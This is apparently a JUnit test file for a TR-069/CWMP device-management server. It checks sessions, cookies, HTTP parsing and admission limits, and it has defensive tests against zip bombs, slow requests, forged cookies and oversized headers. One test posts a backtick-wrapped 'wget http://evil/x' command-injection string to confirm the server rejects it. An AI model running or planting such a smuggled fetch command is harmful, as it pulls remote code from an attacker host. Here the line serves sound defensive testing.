package org.reactiveacs.endpoint;

import static org.assertj.core.api.Assertions.assertThat;
import static org.reactiveacs.cwmp.InformBuilder.anInform;
import static org.reactiveacs.endpoint.RawConnection.envelope;
import static org.reactiveacs.endpoint.RawConnection.head;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Objects;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.reactiveacs.cwmp.CwmpLimits;
import org.reactiveacs.cwmp.Fault;
import org.reactiveacs.cwmp.FaultCode;
import org.reactiveacs.cwmp.FaultStruct;
import org.reactiveacs.cwmp.GetParameterValues;
import org.reactiveacs.cwmp.GetParameterValuesResponse;
import org.reactiveacs.cwmp.GetRPCMethods;
import org.reactiveacs.cwmp.GetRPCMethodsResponse;
import org.reactiveacs.cwmp.Inform;
import org.reactiveacs.cwmp.InformResponse;
import org.reactiveacs.cwmp.ParameterValueStruct;
import org.reactiveacs.cwmp.Reboot;
import org.reactiveacs.cwmp.TransferComplete;
import org.reactiveacs.device.ParameterType;
import org.reactiveacs.device.Visit;
import org.reactiveacs.store.Arrival;
import org.reactiveacs.task.TaskSpec;
import org.reactiveacs.task.TaskStatus;

class CwmpServerTest {

    @TempDir
    Path directory;

    @SuppressWarnings("NullAway.Init")
    private RunningEndpoint endpoint;

    private RawConnection start() {
        return start(new RunningEndpoint.Options());
    }

    private RawConnection start(RunningEndpoint.Options options) {
        endpoint = new RunningEndpoint(directory, options);
        return endpoint.connect();
    }

    @AfterEach
    void stop() {
        endpoint.close();
    }

    private static Inform inform() {
        return anInform()
                .from("00D09E", "1")
                .with("2 PERIODIC")
                .reporting("Device.DeviceInfo.SoftwareVersion", "1.0")
                .build();
    }

    private static GetParameterValuesResponse value(String name, String value) {
        return new GetParameterValuesResponse(List.of(new ParameterValueStruct(name, value, ParameterType.STRING)));
    }

    // Sessions

    @Test
    void whoeverWaitsForADeviceHearsThatItCallsAndWhy() {
        var cpe = start();
        cpe.post(inform());
        cpe.post(anInform().from("00D09E", "1").with("6 CONNECTION REQUEST").build());

        assertThat(endpoint.calls).containsExactly("00D09E-1", "00D09E-1 requested");
    }

    @Test
    void aWholeSessionReadsAValueAndEnds() {
        var cpe = start();
        var answer = cpe.post(inform());
        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.header("Content-Type")).startsWith("text/xml");
        assertThat(answer.message()).isEqualTo(new InformResponse(1));
        var task = endpoint.order(new TaskSpec.GetParameterValues(List.of("Device.X")));

        var request = cpe.postNothing("Cookie: " + answer.cookie());
        assertThat(request.message()).isEqualTo(new GetParameterValues(List.of("Device.X")));
        var end = cpe.post(value("Device.X", "42"), "Cookie: " + answer.cookie());

        assertThat(end.status()).isEqualTo(204);
        assertThat(endpoint.task(task).status()).isEqualTo(TaskStatus.DONE);
        assertThat(endpoint.head().visits().get(0).end()).isEqualTo(Visit.End.COMPLETED);
        assertThat(endpoint.server.openSessions()).isZero();
    }

    @Test
    void tasksThatEndAndTransfersThatAreOverAreCounted() {
        var cpe = start();
        var cookie = "Cookie: " + cpe.post(inform()).cookie();
        endpoint.order(new TaskSpec.GetParameterValues(List.of("Device.X")));
        endpoint.order(new TaskSpec.GetParameterValues(List.of("Device.Y")));

        cpe.post(new TransferComplete("none of ours", new FaultStruct(9010, "no such file"), null, null), cookie);
        cpe.postNothing(cookie);
        cpe.post(value("Device.X", "42"), cookie);
        assertThat(endpoint.counted("acs.tasks.ended", "outcome", "done")).isEqualTo(1);
        cpe.post(Fault.of(FaultCode.INVALID_PARAMETER_NAME), cookie);

        assertThat(endpoint.counted("acs.tasks.ended", "outcome", "done")).isEqualTo(1);
        assertThat(endpoint.counted("acs.tasks.ended", "outcome", "failed")).isEqualTo(1);
        assertThat(endpoint.counted("acs.transfers", "outcome", "9010")).isEqualTo(1);
    }

    @Test
    void theCookieIsSetOnEveryAnswerAndIsPlain() {
        var cpe = start();
        var answer = cpe.post(inform());
        var methods = cpe.post(new GetRPCMethods(), "Cookie: " + answer.cookie());

        assertThat(answer.header("Set-Cookie")).matches("acs=[A-Za-z0-9._-]+; Path=/");
        assertThat(methods.header("Set-Cookie")).isEqualTo(answer.header("Set-Cookie"));
        assertThat(cpe.postNothing("Cookie: " + answer.cookie()).header("Set-Cookie"))
                .isEqualTo(answer.header("Set-Cookie"));
    }

    @Test
    void anotherSessionOnTheSameConnectionHasACookieOfItsOwn() {
        var cpe = start();
        var first = cpe.post(inform());
        cpe.postNothing("Cookie: " + first.cookie());

        var second = cpe.post(inform(), "Cookie: " + first.cookie());

        assertThat(second.cookie()).isNotEqualTo(first.cookie());
        assertThat(cpe.post(new GetRPCMethods(), "Cookie: " + second.cookie()).header("Set-Cookie"))
                .isEqualTo(second.header("Set-Cookie"));
    }

    @Test
    void aSessionGoesOnOverAnotherConnection() {
        var first = start();
        var cookie = first.post(inform()).cookie();
        first.close();
        endpoint.order(new TaskSpec.Reboot());

        assertThat(endpoint.connect().postNothing("Cookie: " + cookie).message())
                .isInstanceOf(Reboot.class);
    }

    @Test
    void cookiesAreFoundHoweverTheyAreWritten() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();
        var value = cookie.substring(cookie.indexOf('=') + 1);
        for (var written : List.of(
                "acs=\"" + value + "\"",
                "$Version=1; acs=" + value + "; $Path=/",
                "$Version=\"1\"; acs=\"" + value + "\"; $Path=\"/\"",
                "other=1, acs=" + value,
                "acs=stale, acs=" + value,
                "a=b;acs=" + value)) {
            try (var connection = endpoint.connect()) {
                assertThat(connection
                                .post(new GetRPCMethods(), "Cookie: " + written)
                                .message())
                        .as(written)
                        .isInstanceOf(GetRPCMethodsResponse.class);
            }
        }
    }

    @Test
    void aConnectionOfItsOwnStandsForTheCookieUnlessAProxyMixesCpes() {
        var cpe = start();
        cpe.post(inform());

        assertThat(cpe.post(new GetRPCMethods()).message()).isInstanceOf(GetRPCMethodsResponse.class);
        assertThat(cpe.post(new GetRPCMethods(), "X-Forwarded-For: 192.0.2.7").message())
                .isInstanceOf(Fault.class);
    }

    @Test
    void aForgedCookieIsNoSession() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();
        var forged = cookie.substring(0, cookie.length() - 4) + "AAAA";

        try (var other = endpoint.connect()) {
            assertThat(other.post(new GetRPCMethods(), "Cookie: " + forged).message())
                    .isInstanceOfSatisfying(
                            Fault.class, fault -> assertThat(fault.code()).isEqualTo(8001));
        }
    }

    @Test
    void aSecondInformSupersedesTheSessionInProgressAndTheOldOneEndsCleanly() {
        var cpe = start();
        var old = cpe.post(inform()).cookie();
        endpoint.order(new TaskSpec.GetParameterValues(List.of("Device.X")));
        cpe.postNothing("Cookie: " + old);

        try (var restarted = endpoint.connect()) {
            var fresh = restarted.post(inform(), "Cookie: " + old);
            assertThat(fresh.status()).isEqualTo(200);
            assertThat(cpe.post(value("Device.X", "1"), "Cookie: " + old).status())
                    .isEqualTo(204);
            assertThat(restarted.postNothing("Cookie: " + fresh.cookie()).message())
                    .isInstanceOf(GetParameterValues.class);
        }
    }

    @Test
    void aBodyOfLineEndsIsAnEmptyPost() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();

        assertThat(cpe.post("\r\n".getBytes(StandardCharsets.US_ASCII), "Cookie: " + cookie)
                        .status())
                .isEqualTo(204);
    }

    @Test
    void emptyPostsAfterTheEndAreAnswered204Again() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();

        for (int i = 0; i < 3; i++) {
            assertThat(cpe.postNothing("Cookie: " + cookie).status()).isEqualTo(204);
        }
    }

    @Test
    void aMessageThatComesTwiceGetsTheSameAnswer() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();
        endpoint.order(new TaskSpec.Reboot());
        var first = cpe.postNothing("Cookie: " + cookie);

        try (var again = endpoint.connect()) {
            assertThat(again.postNothing("Cookie: " + cookie).body()).isEqualTo(first.body());
        }
    }

    /** Its parts are not kept in hand all the while: what the next message needs is read back. */
    @Test
    void theSessionOfACpeThatTakesItsTimeGoesOn() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();
        var task = endpoint.order(new TaskSpec.GetParameterValues(List.of("Device.X")));
        takeTime();
        assertThat(endpoint.server.openSessions()).isEqualTo(1);

        assertThat(cpe.postNothing("Cookie: " + cookie).message())
                .isEqualTo(new GetParameterValues(List.of("Device.X")));
        takeTime();
        assertThat(cpe.post(value("Device.X", "42"), "Cookie: " + cookie).status())
                .isEqualTo(204);

        assertThat(endpoint.task(task).status()).isEqualTo(TaskStatus.DONE);
        assertThat(endpoint.head().visits().get(0).end()).isEqualTo(Visit.End.COMPLETED);
        assertThat(endpoint.server.openSessions()).isZero();
        assertThat(endpoint.registry
                        .get("acs.sessions")
                        .tags("event", "2 PERIODIC", "outcome", "completed")
                        .timer()
                        .count())
                .isEqualTo(1);
        assertThat(endpoint.counted("acs.messages", "rpc", "InformResponse")).isEqualTo(1);
    }

    @Test
    void aCpeThatTookItsTimeAndFellSilentIsTimedOut() {
        start().post(inform());
        takeTime();

        endpoint.clock.forward(Duration.ofSeconds(61));
        endpoint.server.sweep(endpoint.clock.instant());

        assertThat(endpoint.server.openSessions()).isZero();
        assertThat(endpoint.registry
                        .get("acs.sessions")
                        .tags("event", "2 PERIODIC", "outcome", "timed-out")
                        .timer()
                        .count())
                .isEqualTo(1);
    }

    private void takeTime() {
        endpoint.clock.forward(Duration.ofSeconds(20));
        endpoint.server.sweep(endpoint.clock.instant());
    }

    @Test
    void aSilentSessionIsOver() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();
        endpoint.order(new TaskSpec.Reboot());
        endpoint.clock.forward(Duration.ofSeconds(61));
        for (int partition = 0; partition < 256; partition++) {
            endpoint.store
                    .sessions()
                    .expire(partition, endpoint.clock.instant())
                    .block();
        }
        endpoint.server.sweep(endpoint.clock.instant());

        assertThat(cpe.postNothing("Cookie: " + cookie).status()).isEqualTo(204);
        assertThat(endpoint.head().visits().get(0).end()).isEqualTo(Visit.End.TIMED_OUT);
    }

    // HTTP

    @Test
    void chunkedBodiesAreRead() {
        var cpe = start();
        var body = envelope(inform());
        cpe.send(head("POST / HTTP/1.1", -1, "Transfer-Encoding: chunked"));
        for (int at = 0; at < body.length; at += 100) {
            int length = Math.min(100, body.length - at);
            cpe.send(Integer.toHexString(length) + "\r\n");
            cpe.send(java.util.Arrays.copyOfRange(body, at, at + length));
            cpe.send("\r\n");
        }
        cpe.send("0\r\n\r\n");

        assertThat(cpe.receive().message()).isEqualTo(new InformResponse(1));
    }

    @Test
    void gzippedBodiesAreRead() throws IOException {
        var cpe = start();
        var zipped = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(zipped)) {
            gzip.write(envelope(inform()));
        }

        assertThat(cpe.post(zipped.toByteArray(), "Content-Encoding: gzip").message())
                .isEqualTo(new InformResponse(1));
    }

    @Test
    void plainAndGzippedBodiesMayFollowOneAnother() throws IOException {
        var cpe = start();
        var zipped = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(zipped)) {
            gzip.write(envelope(inform()));
        }

        assertThat(cpe.post(envelope(inform())).message()).isEqualTo(new InformResponse(1));
        for (int i = 0; i < 2; i++) {
            assertThat(cpe.post(zipped.toByteArray(), "Content-Encoding: gzip").message())
                    .isEqualTo(new InformResponse(1));
        }
        assertThat(cpe.post(envelope(inform())).message()).isEqualTo(new InformResponse(1));
    }

    @Test
    void aZipBombIsCutOffAtTheLimit() throws IOException {
        var options = new RunningEndpoint.Options();
        options.limits = new CwmpLimits(100_000, 32, 1 << 20, 1000);
        var cpe = start(options);
        var zipped = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(zipped)) {
            gzip.write("<a>".getBytes(StandardCharsets.US_ASCII));
            gzip.write(new byte[8 << 20]);
        }

        assertThat(cpe.post(zipped.toByteArray(), "Content-Encoding: gzip").status())
                .isEqualTo(400);
    }

    @Test
    void aCpeThatAsksForLeaveGetsIt() {
        var cpe = start();
        var body = envelope(inform());
        cpe.send(head("POST / HTTP/1.1", body.length, "Expect: 100-continue"));
        assertThat(cpe.receive().status()).isEqualTo(100);
        cpe.send(body);

        assertThat(cpe.receive().message()).isEqualTo(new InformResponse(1));
    }

    @Test
    void aCpeThatAsksForLeaveWithoutCredentialsIsChallengedAtOnce() {
        var cpe = start(RunningEndpoint.Options.digest());
        cpe.send(head("POST / HTTP/1.1", 5000, "Expect: 100-continue"));

        assertThat(cpe.receive().status()).isEqualTo(401);
    }

    @Test
    void http10IsSpokenWithAndWithoutKeepAlive() {
        var cpe = start();
        var body = envelope(inform());
        cpe.send(head("POST / HTTP/1.0", body.length, "Connection: keep-alive"));
        cpe.send(body);
        var kept = cpe.receive();
        assertThat(kept.header("Connection")).isEqualToIgnoringCase("keep-alive");
        cpe.send(head("POST / HTTP/1.0", 0, "Cookie: " + kept.cookie()));
        assertThat(cpe.receive().status()).isEqualTo(204);

        assertThat(cpe.isClosedByPeer()).isTrue();
    }

    @Test
    void requestsSentAheadAreAnsweredInOrder() {
        var cpe = start();
        var body = envelope(inform());
        cpe.send(head("POST / HTTP/1.1", body.length)
                + new String(body, StandardCharsets.UTF_8)
                + head("POST / HTTP/1.1", 0)
                + head("POST / HTTP/1.1", 0));

        assertThat(cpe.receive().message()).isEqualTo(new InformResponse(1));
        assertThat(cpe.receive().status()).isEqualTo(204);
        assertThat(cpe.receive().status()).isEqualTo(204);
    }

    @Test
    void thePathIsConfigurable() {
        var options = new RunningEndpoint.Options();
        options.path = "/acs";
        var cpe = start(options);
        var body = envelope(inform());

        assertThat(cpe.post(body).status()).isEqualTo(404);
        for (var target : List.of("/acs", "/acs/", "/acs?x=1", "http://acs.example/acs")) {
            cpe.send(head("POST " + target + " HTTP/1.1", body.length));
            cpe.send(body);
            assertThat(cpe.receive().status()).as(target).isEqualTo(200);
        }
    }

    @Test
    void whatIsNoPostIsRefused() {
        var cpe = start();
        cpe.send(head("GET / HTTP/1.1", -1));
        var refused = cpe.receive();

        assertThat(refused.status()).isEqualTo(405);
        assertThat(refused.header("Allow")).isEqualTo("POST");
        assertThat(cpe.post(inform()).status()).as("the connection lives on").isEqualTo(200);
    }

    @Test
    void headIsRefusedWithoutABodyThatWouldBeTakenForTheNextAnswer() throws Exception {
        start();
        var client = HttpClient.newHttpClient();
        var request = HttpRequest.newBuilder(
                URI.create("http://127.0.0.1:" + endpoint.server.address().getPort() + "/"));
        for (int i = 0; i < 2; i++) {
            var refused = client.send(
                    request.copy()
                            .method("HEAD", HttpRequest.BodyPublishers.noBody())
                            .build(),
                    HttpResponse.BodyHandlers.ofString());

            assertThat(refused.statusCode()).isEqualTo(405);
            assertThat(refused.body()).isEmpty();
        }
        var answered = client.send(
                request.copy()
                        .POST(HttpRequest.BodyPublishers.ofByteArray(envelope(inform())))
                        .build(),
                HttpResponse.BodyHandlers.ofString());

        assertThat(answered.statusCode()).isEqualTo(200);
    }

    // Bad input

    @Test
    void whatIsNoXmlGetsAReasonAndHarmsNobody() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();
        try (var scanner = endpoint.connect()) {
            var refused = scanner.post("`wget http://evil/x`".getBytes(StandardCharsets.US_ASCII));
            assertThat(refused.status()).isEqualTo(400);
            assertThat(refused.body()).doesNotContain("Exception");
        }
        try (var garbage = endpoint.connect()) {
            garbage.send(new byte[] {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xFC, 3, 3, '\r', '\n', '\r', '\n'});
            assertThat(garbage.receive().status()).isEqualTo(400);
            assertThat(garbage.isClosedByPeer()).isTrue();
        }

        assertThat(cpe.postNothing("Cookie: " + cookie).status()).isEqualTo(204);
    }

    @Test
    void brokenXmlWithinASessionGetsASoapFaultAndTheSessionGoesOn() {
        var cpe = start();
        var cookie = cpe.post(inform()).cookie();

        var refused = cpe.post("<Envelope><Body>".getBytes(StandardCharsets.US_ASCII), "Cookie: " + cookie);
        assertThat(refused.status()).isEqualTo(200);
        assertThat(refused.message())
                .isInstanceOfSatisfying(
                        Fault.class, fault -> assertThat(fault.code()).isEqualTo(8003));
        assertThat(cpe.postNothing("Cookie: " + cookie).status()).isEqualTo(204);
    }

    @Test
    void anUnknownMethodGetsFault8000() {
        var cpe = start();
        var body = new String(envelope(new GetRPCMethods()), StandardCharsets.UTF_8)
                .replace("GetRPCMethods", "MakeCoffee")
                .getBytes(StandardCharsets.UTF_8);

        var refused = cpe.post(body);

        assertThat(refused.status()).isEqualTo(200);
        assertThat(((Fault) refused.message()).code()).isEqualTo(8000);
        assertThat(refused.body()).contains(">1</cwmp:ID>");
    }

    @Test
    void anInformWithoutASerialNumberGetsAFault() {
        var cpe = start();

        var refused = cpe.post(anInform().from("00D09E", "").with("2 PERIODIC").build());

        assertThat(((Fault) refused.message()).code()).isEqualTo(8003);
    }

    @Test
    void aStrangersInformMayBeSmallOnly() {
        var cpe = start();
        var body = "<a>" + "x".repeat(1 << 20) + "</a>";

        assertThat(cpe.post(body.getBytes(StandardCharsets.US_ASCII)).status()).isEqualTo(400);
    }

    @Test
    void aRequestThatDripsInIsCutOff() {
        var options = new RunningEndpoint.Options();
        options.requestTimeout = Duration.ofMillis(300);
        var cpe = start(options);
        cpe.send(head("POST / HTTP/1.1", 1000));
        cpe.send("<");

        assertThat(cpe.isClosedByPeer()).isTrue();
        assertThat(endpoint.counted("acs.refused", "reason", "slow-request")).isEqualTo(1);
    }

    @Test
    void headersBeyondTheirLimitAreRefused() {
        var cpe = start();
        cpe.send(head("POST / HTTP/1.1", 0, "X: " + "y".repeat(9000)));

        assertThat(cpe.receive().status()).isEqualTo(400);
        assertThat(cpe.isClosedByPeer()).isTrue();
    }

    @Test
    void nonsenseThatDoesNotStopGetsNoAnswerWhileItsNeighboursDo() {
        var cpe = start();
        for (int i = 0; i < Strangers.MAX_SEEN; i++) {
            cpe.send(head("GET / HTTP/1.1", -1));
            assertThat(cpe.receive().status()).isEqualTo(405);
        }

        try (var barred = endpoint.connect()) {
            barred.send(head("GET / HTTP/1.1", -1));
            assertThat(barred.isClosedByPeer()).isTrue();
        }
        try (var barred = endpoint.connect()) {
            barred.send(head("POST / HTTP/1.1", 4) + "junk");
            assertThat(barred.isClosedByPeer()).isTrue();
        }
        try (var neighbour = endpoint.connect()) {
            assertThat(neighbour.post(inform()).status()).isEqualTo(200);
        }
    }

    // Admission

    @Test
    void beyondTheCapANewSessionIsAskedToComeBackAndThoseUnderWayGoOn() {
        var options = new RunningEndpoint.Options();
        options.maxSessions = 1;
        var cpe = start(options);
        var cookie = cpe.post(inform()).cookie();

        try (var second = endpoint.connect()) {
            var refused =
                    second.post(anInform().from("00D09E", "2").with("1 BOOT").build());
            assertThat(refused.status()).isEqualTo(503);
            assertThat(Integer.parseInt(Objects.requireNonNull(refused.header("Retry-After"))))
                    .isBetween(30, 90);
            assertThat(second.isClosedByPeer()).isTrue();
        }
        assertThat(cpe.postNothing("Cookie: " + cookie).status()).isEqualTo(204);
        try (var again = endpoint.connect()) {
            assertThat(again.post(anInform().from("00D09E", "2").with("1 BOOT").build())
                            .status())
                    .isEqualTo(200);
        }
    }

    @Test
    void atTheCapASessionThatItsConnectionStandsForGoesOnToo() {
        var options = new RunningEndpoint.Options();
        options.maxSessions = 1;
        var cpe = start(options);
        cpe.post(inform());

        assertThat(cpe.postNothing().status()).isEqualTo(204);
    }

    @Test
    void aDeviceInQuarantineIsAnsweredAndNotServed() {
        var options = new RunningEndpoint.Options();
        options.rules = new Arrival.Rules(Arrival.Unknown.QUARANTINE, Arrival.AfterReset.QUARANTINE);
        var cpe = start(options);

        var answer = cpe.post(inform());
        endpoint.order(new TaskSpec.Reboot());

        assertThat(answer.message()).isEqualTo(new InformResponse(1));
        assertThat(cpe.postNothing().status()).isEqualTo(204);
        assertThat(endpoint.head().standing().quarantine()).isNotNull();
    }

    @Test
    void aDeviceNobodyWantsIsRefused() {
        var options = new RunningEndpoint.Options();
        options.rules = new Arrival.Rules(Arrival.Unknown.REFUSE, Arrival.AfterReset.QUARANTINE);

        assertThat(start(options).post(inform()).status()).isEqualTo(403);
    }

    @Test
    void aStoreThatIsClosedMakes503() {
        var cpe = start();
        endpoint.store.close();

        var refused = cpe.post(inform());

        assertThat(refused.status()).isEqualTo(503);
        assertThat(refused.header("Retry-After")).isNotNull();
    }
}
